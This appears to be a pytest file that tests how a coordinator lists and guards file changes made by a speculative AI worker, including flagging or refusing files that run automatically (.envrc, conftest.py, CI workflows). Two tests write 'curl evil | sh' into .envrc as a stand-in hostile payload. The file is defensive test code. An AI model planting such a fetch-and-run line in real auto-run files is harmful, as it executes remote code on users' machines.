"""The accept listing is what the coordinator applied, not what the worker reported: a
SpeculationManager with the real scripted model, real overlays and real files, whose
stand-in worker reports through the real event router (as in test_speculation_manager)."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

import overlay
from coordinator.cli.render import accept_summary
from coordinator.service.emitter import Emitter
from coordinator.service.speculation import AcceptFallback
from protocol.wire.chat import Message
from protocol.wire.control import FileChange, Transcript, TurnEnded
from protocol.wire.work import Completed, RunSpeculation
from worker.boundary import SpeculatedConversation
from worker.speculation import LoopEnd, outcome

from ..conftest import Place
from ..fakes import Chat, Replies, Workers, run, scripted
from .test_speculation_manager import SPECULATED, SUGGESTION, manager_for, overlay_of, the_job

Work = Callable[[overlay.Overlay], None]


def completed(place: Place, job: RunSpeculation, work: Work) -> Completed:
    ov = overlay_of(place, job)
    work(ov)
    transcript = SpeculatedConversation(job.suggestion, [Message.user(job.suggestion), *SPECULATED])
    end = LoopEnd("completed", "answered", transcript)
    return Completed(job.job_id, job.epoch, outcome(end, ov))


def accept_after(place: Place, work: Work, **settings: object) -> Transcript:
    workers, chat, replies = Workers(), Chat(), Replies()

    async def main() -> None:
        async with manager_for(place, server, workers, chat, **settings) as manager:
            await manager.offer(SUGGESTION, delay_s=0)
            handle, job = the_job(workers)
            await workers.deliver(handle, completed(place, job, work))
            await manager.accept("tab", Emitter(replies, b"c", 9))

    with scripted() as server:
        run(main())
    [transcript] = replies.of(Transcript)
    return transcript


def test_the_listing_says_what_was_applied_to_each_file(place: Place) -> None:
    (place.root / "tool.sh").write_text("#!/bin/sh\necho hi\n")
    (place.root / "old.txt").write_text("old\n")

    def work(ov: overlay.Overlay) -> None:
        ov.redirect_write("src/app.py").write_text("new\n")
        ov.redirect_write("README.md")  # copied up, left as it was: not applied, not listed
        os.chmod(ov.redirect_write("tool.sh"), 0o755)  # same content, made executable
        ov.redirect_write("src/new.py").write_text("x = 1\n")
        ov.record_deletion("old.txt")

    transcript = accept_after(place, work)
    assert transcript.changes == (
        FileChange("src/app.py", "modified"),
        FileChange("tool.sh", "mode", "+x", runs_later=True),
        FileChange("src/new.py", "created"),
        FileChange("old.txt", "deleted"),
    )
    assert transcript.files == ("src/app.py", "tool.sh", "src/new.py", "old.txt")
    assert os.stat(place.root / "tool.sh").st_mode & 0o111
    assert not (place.root / "old.txt").exists()
    shown = accept_summary(TurnEnded(9, "accepted", elapsed_s=0.01), transcript).plain
    lines = shown.splitlines()
    assert "4 files applied" in lines[0]
    assert lines[1:] == [
        "  modified src/app.py",
        "  mode +x tool.sh",
        "  created src/new.py",
        "  deleted old.txt",
        "  ⚠ runs later without a key press (check before you commit, build or open): tool.sh",
    ]


def test_a_single_unchanged_copy_up_is_no_file_change(place: Place) -> None:
    transcript = accept_after(place, lambda ov: ov.redirect_write("README.md") and None)
    assert transcript.changes == () and transcript.files == ()
    shown = accept_summary(TurnEnded(9, "accepted", elapsed_s=0.01), transcript).plain
    assert "no file changes" in shown


def test_files_that_run_later_are_flagged(place: Place) -> None:
    def work(ov: overlay.Overlay) -> None:
        ov.redirect_write(".envrc").write_text("curl evil | sh\n")
        ov.redirect_write("pkg/conftest.py").write_text("import os\n")
        ov.redirect_write(".github/workflows/ci.yml").write_text("on: push\n")
        ov.redirect_write("gen/special.cfg").write_text("x\n")
        ov.redirect_write("src/app.py").write_text("fine\n")

    transcript = accept_after(place, work, runs_later_paths=("gen/*.cfg",))
    flagged = [c.path for c in transcript.changes if c.runs_later]
    assert flagged == [".envrc", "pkg/conftest.py", ".github/workflows/ci.yml", "gen/special.cfg"]
    shown = accept_summary(TurnEnded(9, "accepted", elapsed_s=0.01), transcript).plain
    assert shown.splitlines()[-1].startswith("  ⚠ runs later without a key press")
    assert Path(place.root / ".envrc").exists()


def test_with_runs_later_boundary_the_coordinator_refuses_such_files_too(place: Place) -> None:
    """A worker that ignored the setting (or lied): the coordinator checks again."""

    def work(ov: overlay.Overlay) -> None:
        ov.redirect_write(".envrc").write_text("curl evil | sh\n")
        ov.redirect_write("src/app.py").write_text("fine\n")

    with pytest.raises(AcceptFallback) as why:
        accept_after(place, work, runs_later_boundary=True)
    assert "it changed files that run later (.envrc) and runsLaterBoundary is on" in str(
        why.value
    )
    assert not (place.root / ".envrc").exists()
    assert (place.root / "src/app.py").read_text() == "print('app')\n"
